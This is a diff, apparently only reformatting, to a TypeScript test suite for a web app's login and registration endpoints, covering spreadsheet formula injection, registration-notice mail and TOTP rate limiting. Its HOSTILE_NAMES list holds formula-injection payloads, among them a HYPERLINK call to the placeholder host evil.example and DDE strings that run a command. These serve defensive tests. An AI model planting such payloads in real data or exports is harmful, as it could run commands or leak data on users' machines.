@@ -44,13 +44,7 @@ function parseCsv(text: string): string[][] {
 /** What a spreadsheet would run: a cell starting with =, +, -, @, tab or CR that is not a plain number or a UTC offset. */
 const opensAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell) && !/^[+-]\d{2}:\d{2}$/.test(cell);
 
-const HOSTILE_NAMES = [
-  '=HYPERLINK("http://evil.example/?x","open")',
-  "+1+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  '=1+1',
-];
+const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x","open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=1+1'];
 
 let nextIp = 1;
 /** A fresh client address per test (TRUST_PROXY is on), so the per-IP budgets of one test never reach another. */
@@ -135,7 +129,9 @@ describe('probes from outside (issue 23)', () => {
 
     it('nor does the "someone tried to register" mail to an existing account', async () => {
       const owner = await createUser(t, { firstName: 'Grace', lastName: 'Hopper' });
-      const res = await t.client().post('/api/auth/register', { name: HOSTILE, email: owner.email, password: 'a long passphrase' }, { 'x-forwarded-for': freshIp() });
+      const res = await t
+        .client()
+        .post('/api/auth/register', { name: HOSTILE, email: owner.email, password: 'a long passphrase' }, { 'x-forwarded-for': freshIp() });
       expect(res.status).toBe(201);
       const mail = await smtp.waitFor({ to: owner.email, subject: /tried to register/i });
       expect(mail.text.startsWith('Hello,')).toBe(true);
@@ -153,7 +149,13 @@ describe('probes from outside (issue 23)', () => {
         const first = args[0];
         const text = typeof first === 'string' ? first : (first as { text?: string } | null)?.text;
         // The statement's shape: the driver inlines values, which differ between any two requests.
-        if (text && /"(users|auth_tokens)"/.test(text)) seen.push(text.replace(/'(?:[^']|'')*'/g, '?').replace(/\s+/g, ' ').trim());
+        if (text && /"(users|auth_tokens)"/.test(text))
+          seen.push(
+            text
+              .replace(/'(?:[^']|'')*'/g, '?')
+              .replace(/\s+/g, ' ')
+              .trim(),
+          );
         return original.apply(this, args);
       };
       try {
@@ -246,14 +248,20 @@ describe('probes from outside (issue 23)', () => {
       const attackerIp = freshIp();
       const statuses: number[] = [];
       for (let i = 0; i < 15; i++) {
-        const res = await t.client().post('/api/auth/login', { email: user.email, password: user.password, totp: await wrongTotpCode(secret) }, { 'x-forwarded-for': attackerIp });
+        const res = await t
+          .client()
+          .post('/api/auth/login', { email: user.email, password: user.password, totp: await wrongTotpCode(secret) }, { 'x-forwarded-for': attackerIp });
         statuses.push(res.status);
       }
       expect(statuses.slice(0, 10).every((s) => s === 401 || s === 400)).toBe(true);
       expect(statuses.slice(-1)).toEqual([429]);
 
       const owner = t.client();
-      const ok = await owner.post('/api/auth/login', { email: user.email, password: user.password, totp: await totpCode(secret) }, { 'x-forwarded-for': freshIp() });
+      const ok = await owner.post(
+        '/api/auth/login',
+        { email: user.email, password: user.password, totp: await totpCode(secret) },
+        { 'x-forwarded-for': freshIp() },
+      );
       expect([ok.status, ok.body.code]).toEqual([200, undefined]);
     });
   });
